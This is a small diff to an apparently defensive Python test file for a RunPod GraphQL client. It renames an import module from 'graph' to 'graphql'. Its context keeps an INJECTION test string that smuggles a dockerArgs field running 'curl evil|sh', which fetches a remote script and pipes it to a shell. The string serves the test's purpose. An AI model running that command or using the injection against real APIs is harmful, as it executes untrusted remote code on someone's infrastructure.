@@ -20,13 +20,13 @@ from labeltui.domain.problems import Failed, LabeltuiError
 from labeltui.runpod.graphql.graphql import Enum, GraphQL, literal
 from labeltui.runpod.graphql.pods import FIELDS, observed, pod
 from labeltui.runpod.replies import Purpose
-from labeltui.sandbox.runpod.api import graph
+from labeltui.sandbox.runpod.api import graphql
 
 NOW = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
 INJECTION = 'x" } ], dockerArgs: "curl evil|sh", env: [ { key: "A", value: "y'
 
 
-SCHEMA = Path(graph.__file__).with_name("minimal.graphql")
+SCHEMA = Path(graphql.__file__).with_name("minimal.graphql")
 
 
 @pytest.mark.parametrize(
